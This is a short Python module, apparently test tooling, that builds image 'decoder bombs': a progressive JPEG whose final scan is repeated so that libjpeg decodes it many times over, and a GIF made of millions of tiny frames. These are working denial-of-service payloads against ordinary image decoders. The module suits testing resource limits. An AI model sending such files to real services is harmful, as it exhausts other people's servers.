"""Decoder bombs, made on the fly: small files that cost a decoder far more than they cost the sender."""

import io
import struct

from PIL import Image

SOS = b"\xff\xda"


def progressive_jpeg(size: tuple[int, int], mode: str = "RGB", subsampling: int = 0) -> bytes:
    """A flat progressive JPEG (4:4:4 by default): a few KB however large, all its blocks kept to decode."""
    buffer = io.BytesIO()
    Image.new(mode, size, "teal" if mode == "RGB" else 128).save(
        buffer, "JPEG", progressive=True, subsampling=subsampling, quality=90
    )
    return buffer.getvalue()


def scan_bomb(size: tuple[int, int], scans: int) -> bytes:
    """A greyscale progressive JPEG whose last scan is repeated until the picture has `scans` scans.

    libjpeg warns of the bogus progression and decodes every copy: one pass over all the blocks each.
    """
    data = progressive_jpeg(size, "L")
    assert data.endswith(b"\xff\xd9")
    last_scan = data[data.rindex(SOS) : -2]
    return data[:-2] + last_scan * (scans - data.count(SOS)) + b"\xff\xd9"


def gif_of_frames(frames: int) -> bytes:
    """A GIF of `frames` 1x1 frames, 23 bytes each: a million of them make 23 MB."""
    screen = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    control = b"!\xf9\x04\x00\x01\x00\x00\x00"  # graphic control: 10 ms a frame
    image = b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return screen + (control + image) * frames + b";"
